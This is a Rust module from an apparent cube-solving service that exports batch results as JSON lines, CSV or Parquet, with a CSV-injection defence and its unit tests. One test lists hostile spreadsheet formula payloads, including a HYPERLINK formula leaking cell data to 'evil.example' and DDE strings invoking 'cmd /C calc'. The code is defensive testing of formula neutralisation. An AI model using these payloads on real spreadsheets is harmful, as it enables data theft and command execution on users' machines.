//! `results`: a batch's results in line order, each the JSON line users read
//! ([`ResultLine`]), written as JSON lines, CSV (RFC 4180, with a header) or Parquet.

use std::io::Write;

use cubefleet_proto::client::Client;
use cubefleet_proto::question::Question;
use cubefleet_proto::{BatchRef, JobResult, ResultsRequest};
use tokio_stream::StreamExt;

use super::args::ResultsFormat;
use crate::output::ResultLine;

/// The user-facing line of a stored result (its strings move into the line; the search
/// crate's one conversion, which the Python client uses too).
pub(crate) fn result_line(r: JobResult) -> ResultLine {
    ResultLine::from(r)
}

/// A batch's results in line order (only those of `status` when it is given).
pub(super) async fn results_stream(
    client: &Client,
    batch: &str,
    status: Option<String>,
) -> anyhow::Result<tonic::Streaming<cubefleet_proto::JobResult>> {
    let request = ResultsRequest {
        batch_id: batch.to_string(),
        status: status.unwrap_or_default(),
        ..ResultsRequest::default()
    };
    Ok(client
        .batches
        .clone()
        .stream_results(request)
        .await?
        .into_inner())
}

/// Writes every result of a batch, in line order.
pub(crate) async fn export(
    client: &Client,
    batch: &str,
    status: Option<String>,
    format: ResultsFormat,
    out: &mut dyn Write,
) -> anyhow::Result<u64> {
    // the batch's move set and target, which its rows name (a batch this call cannot read is
    // refused by the results stream below, with the reason)
    let mode = client
        .batches
        .clone()
        .get_batch(BatchRef {
            batch_id: batch.to_string(),
        })
        .await
        .ok()
        .and_then(|b| b.into_inner().mode);
    let question = mode
        .and_then(|m| Question::from_wire(&m).ok())
        .unwrap_or_default();
    let mut stream = results_stream(client, batch, status).await?;
    let mut w = ResultsWriter::new(format, out)?.for_question(&question);
    while let Some(r) = stream.next().await {
        w.write(r?)?;
    }
    w.finish()
}

/// Writes results as lines of one format, the CSV header first.
pub(crate) struct ResultsWriter<W: Write> {
    sink: Sink<W>,
    written: u64,
    /// The batch's move set as its rows name it (`moves`), None when it allows every turn.
    moves: Option<String>,
    /// The batch's target as its rows name it (`to`, facelets), None for the solved cube.
    to: Option<String>,
    /// The batch's question (its goal names the rows' `goal`, and its check their
    /// `goal_reached`).
    question: Question,
}

/// Where a [`ResultsWriter`]'s lines go, by format.
enum Sink<W: Write> {
    /// JSON lines; `line` holds one line as it is made, written to the output whole, so the
    /// many small writes of a serialiser stay in memory (the output is often a `dyn Write`).
    Jsonl { out: W, line: Vec<u8> },
    /// RFC 4180 CSV (a field with `,`, `"`, `\r` or `\n` is quoted, `"` doubled), `\n` after
    /// each record; the encoder buffers and writes whole chunks (boxed: it holds its buffer
    /// state inline, and a writer is made once per export).
    Csv(Box<csv::Writer<W>>),
    /// Parquet ([`crate::parquet`]): rows gathered into row groups, each written when full,
    /// the footer at [`ResultsWriter::finish`].
    Parquet(Box<cubefleet_columns::ParquetWriter<W>>),
}

impl<W: Write> ResultsWriter<W> {
    /// Starts the output (the CSV header).
    pub(crate) fn new(format: ResultsFormat, out: W) -> anyhow::Result<Self> {
        let sink = match format {
            ResultsFormat::Jsonl => Sink::Jsonl {
                out,
                line: Vec::with_capacity(256),
            },
            ResultsFormat::Csv => {
                let mut csv = csv::WriterBuilder::new()
                    .terminator(csv::Terminator::Any(b'\n'))
                    .from_writer(out);
                csv.write_record(CSV_HEADER)?;
                Sink::Csv(Box::new(csv))
            }
            ResultsFormat::Parquet => {
                Sink::Parquet(Box::new(cubefleet_columns::ParquetWriter::new(out)?))
            }
        };
        Ok(ResultsWriter {
            sink,
            written: 0,
            moves: None,
            to: None,
            question: Question::default(),
        })
    }

    /// Rows that name the batch's move set (their `moves`) when `question` restricts the
    /// turns, its target (their `to`) when it has one, and its goal (`goal`, and where each
    /// solution reached it, `goal_reached`) when it has one.
    pub(crate) fn for_question(self, question: &Question) -> Self {
        let set = question.moves();
        ResultsWriter {
            moves: (!set.is_all()).then(|| set.to_string()),
            to: cubefleet_search::lines::target_facelets(question),
            question: *question,
            ..self
        }
    }

    /// Writes one result.
    pub(crate) fn write(&mut self, r: JobResult) -> anyhow::Result<()> {
        let mut line = result_line(r);
        line.moves.clone_from(&self.moves);
        line.to.clone_from(&self.to);
        line.goal = self.question.goal().map(|g| g.to_string());
        line.goal_reached = cubefleet_search::lines::row_goal_reached(&self.question, &line);
        match &mut self.sink {
            Sink::Jsonl { out, line: buf } => {
                buf.clear();
                serde_json::to_writer(&mut *buf, &line)?;
                buf.push(b'\n');
                out.write_all(buf)?;
            }
            Sink::Csv(csv) => csv.write_record([
                line.index.to_string().as_str(),
                &spreadsheet_safe(&line.input),
                line.status.name(),
                &spreadsheet_safe(&line.solution),
                &line.length.map(|l| l.to_string()).unwrap_or_default(),
                if line.optimal { "true" } else { "false" },
                &spreadsheet_safe(line.error.as_deref().unwrap_or("")),
                &spreadsheet_safe(line.state_index.as_deref().unwrap_or("")),
            ])?,
            Sink::Parquet(p) => p.write(&crate::parquet::row(&line))?,
        }
        self.written += 1;
        Ok(())
    }

    /// The number of results written so far.
    pub(crate) fn written(&self) -> u64 {
        self.written
    }

    /// Passes what is buffered on (so that a reader sees the lines written so far).
    pub(crate) fn flush(&mut self) -> anyhow::Result<()> {
        match &mut self.sink {
            Sink::Jsonl { out, .. } => out.flush()?,
            Sink::Csv(csv) => csv.flush()?,
            // nothing of a Parquet file is readable before its footer: row groups go out
            // when full, not in small pieces whenever an export waits
            Sink::Parquet(_) => {}
        }
        Ok(())
    }

    /// Flushes the output (a Parquet file: its last row group and footer); returns the number
    /// of results written.
    pub(crate) fn finish(mut self) -> anyhow::Result<u64> {
        if let Sink::Parquet(p) = self.sink {
            p.finish()?;
            return Ok(self.written);
        }
        self.flush()?;
        Ok(self.written)
    }
}

/// The characters that make a spreadsheet read a cell as a formula when they begin it
/// (OWASP's list for CSV injection: `=`, `+`, `-`, `@`, tab, carriage return).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell of the CSV export as a spreadsheet may open it: one that begins with a
/// character of [`FORMULA_STARTS`] gets a `'` in front (a spreadsheet reads the cell as
/// text), so a line or an error such as `=HYPERLINK(...)` is never run as a formula.
/// Every other text is written as it is. (Solutions begin with a face letter; the inputs and
/// errors are what others wrote.)
fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The columns of `results --format csv`, in order (`state_index`: of a range or sample
/// batch's job, else empty).
const CSV_HEADER: [&str; 8] = [
    "index",
    "input",
    "status",
    "solution",
    "length",
    "optimal",
    "error",
    "state_index",
];

#[cfg(test)]
mod tests {
    use super::*;

    /// A result whose input and error hold every character CSV must quote.
    fn awkward(index: u64) -> JobResult {
        JobResult {
            index,
            input: "R U,\"x\"\r\nF".into(),
            status: "invalid".into(),
            error: "bad token `\r`, then \"quotes\"\nand a, comma".into(),
            ..JobResult::default()
        }
    }

    #[test]
    fn csv_export_round_trips_carriage_returns_quotes_commas_and_newlines() {
        let mut out = Vec::new();
        let mut w = ResultsWriter::new(ResultsFormat::Csv, &mut out).expect("header");
        w.write(awkward(0)).expect("row");
        w.write(awkward(1)).expect("row");
        // a carriage return alone: the field needs quotes all the same
        w.write(JobResult {
            index: 2,
            input: "R U\rF".into(),
            status: "invalid".into(),
            error: "cr\r".into(),
            ..JobResult::default()
        })
        .expect("row");
        assert_eq!(w.finish().expect("flush"), 3);
        let mut reader = csv::ReaderBuilder::new().from_reader(out.as_slice());
        let header = reader.headers().expect("header").clone();
        assert_eq!(header.iter().collect::<Vec<_>>(), CSV_HEADER);
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
        assert_eq!(rows.len(), 3, "{}", String::from_utf8_lossy(&out));
        assert_eq!(&rows[2][1], "R U\rF");
        assert_eq!(&rows[2][6], "cr\r");
        for (i, row) in rows.iter().take(2).enumerate() {
            assert_eq!(&row[0], i.to_string());
            assert_eq!(&row[1], "R U,\"x\"\r\nF");
            assert_eq!(&row[2], "invalid");
            assert_eq!(&row[6], "bad token `\r`, then \"quotes\"\nand a, comma");
        }
        // no bare carriage return outside a quoted field: every line break of the file is a
        // record's end or inside quotes
        let text = String::from_utf8(out).expect("utf-8");
        assert!(text.contains("\"R U,\"\"x\"\"\r\nF\""), "{text}");
        assert!(text.contains("\n2,\"R U\rF\",invalid,"), "{text:?}");
    }

    /// A cell a spreadsheet would run as a formula (OWASP's starts) comes out as text: a `'`
    /// in front, inside the quoted cell; other cells are written as they are.
    #[test]
    fn csv_cells_that_begin_a_formula_are_neutralised() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        let mut out = Vec::new();
        let mut w = ResultsWriter::new(ResultsFormat::Csv, &mut out).expect("header");
        for (i, line) in hostile.iter().enumerate() {
            w.write(JobResult {
                index: i as u64,
                input: (*line).into(),
                status: "invalid".into(),
                error: format!("{line} is not a position"),
                ..JobResult::default()
            })
            .expect("row");
        }
        w.write(JobResult {
            index: 6,
            input: "R U R' U'".into(),
            status: "solved".into(),
            solution: "U R U' R'".into(),
            length: 4,
            ..JobResult::default()
        })
        .expect("row");
        w.finish().expect("flush");
        let text = String::from_utf8(out.clone()).expect("utf-8");
        assert!(
            text.contains("0,'=HYPERLINK(") || text.contains("0,\"'=HYPERLINK("),
            "{text}"
        );
        let mut reader = csv::ReaderBuilder::new().from_reader(out.as_slice());
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
        for (row, line) in rows.iter().zip(hostile) {
            assert_eq!(&row[1], format!("'{line}"), "input");
            assert_eq!(&row[6], format!("'{line} is not a position"), "error");
            assert!(
                !row.iter().any(|cell| cell.starts_with(FORMULA_STARTS)),
                "{row:?}"
            );
        }
        assert_eq!(&rows[6][1], "R U R' U'");
        assert_eq!(&rows[6][3], "U R U' R'");
    }
}
